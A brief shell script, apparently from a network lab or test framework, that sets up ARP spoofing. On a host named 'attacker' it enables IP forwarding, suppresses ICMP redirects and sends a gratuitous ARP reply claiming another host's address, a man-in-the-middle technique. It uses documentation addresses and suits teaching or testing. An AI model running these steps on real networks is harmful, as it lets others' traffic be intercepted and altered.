#!/bin/sh
# believes: an answer in one's own name, sent to both, brings both to send to the attacker
# told: whose name must they bear
attacker sysctl -qw net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0 net.ipv4.ip_forward=1
attacker frame 'arp.gratuitous("192.0.2.2", lladdr="00:00:5e:00:53:02", form="reply")'
